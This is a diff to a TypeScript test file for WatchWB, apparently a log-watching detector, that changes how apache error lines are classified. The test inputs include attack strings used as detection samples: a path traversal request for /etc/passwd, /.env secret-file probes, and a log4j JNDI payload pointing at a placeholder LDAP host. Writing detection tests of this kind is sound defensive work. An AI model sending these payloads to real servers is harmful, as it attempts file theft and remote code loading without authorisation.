@@ -3,7 +3,9 @@
 // searched it through the whole of every access line; and the instance tag was parsed afresh on
 // every line. Now each noise pattern begins with one spelling of the tag (tried only where the tag
 // stands) and a tag's reading is kept; a kept reading never carries one line's X-Forwarded-For
-// into another, and a register reread replaces the kept readings.
+// into another, and a register reread replaces the kept readings. The access line rules read an
+// apache error line to its end; now they pass it at its first character (`[`), and the error
+// rules alone read it.
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -49,6 +51,15 @@ describe('WatchWB: the cost of a line, the same verdicts', () => {
     expect(verdict('Dec  2 20:00:00 web httpd[9]: [core:notice] [pid 9] AH00094: Command line: \'/usr/sbin/apache2\' [Instance: www.example.org:443]@generic')).toBe('skip - - www.example.org:443@generic');
     // The noise's words inside a request are the client's: the line is still read as a probe.
     expect(verdict(access('203.0.113.5', 'GET /.env?nginx:%202026/12/02%2020:00:00%20[notice]%20 HTTP/1.1', 404, 'www.example.org:443', 'generic'))).toBe('match secret-files 203.0.113.5 www.example.org:443@generic');
+  });
+
+  it('reads an apache error line by the error rules only: a request quoted in it is no access line\'s try', () => {
+    const error = (msg: string) => verdict(`Dec  2 20:00:00 web httpd: [core:error] [pid 9] [client 203.0.113.5:4000] ${msg} [Instance: www.example.org:443]@generic`);
+    // Before, the access rules read it to its end and took the quoted text for a request.
+    expect(error('AH00126: Invalid URI in request "GET /../../etc/passwd HTTP/1.1"')).toBe('match invalid-request 203.0.113.5 www.example.org:443@generic');
+    expect(error('AH00128: File does not exist: /var/www/x, referer: "GET /.env HTTP/1.1" 404')).toBe('match error-line - www.example.org:443@generic');
+    // A payload in an error line still counts, whatever rule reads it first.
+    expect(error('AH00128: File does not exist: /var/www/${jndi:ldap://x.example/a}')).toBe('match log4j 203.0.113.5 www.example.org:443@generic');
   });
 
   it('reads each line\'s own X-Forwarded-For behind a trusted proxy, however often its tag was read', () => {
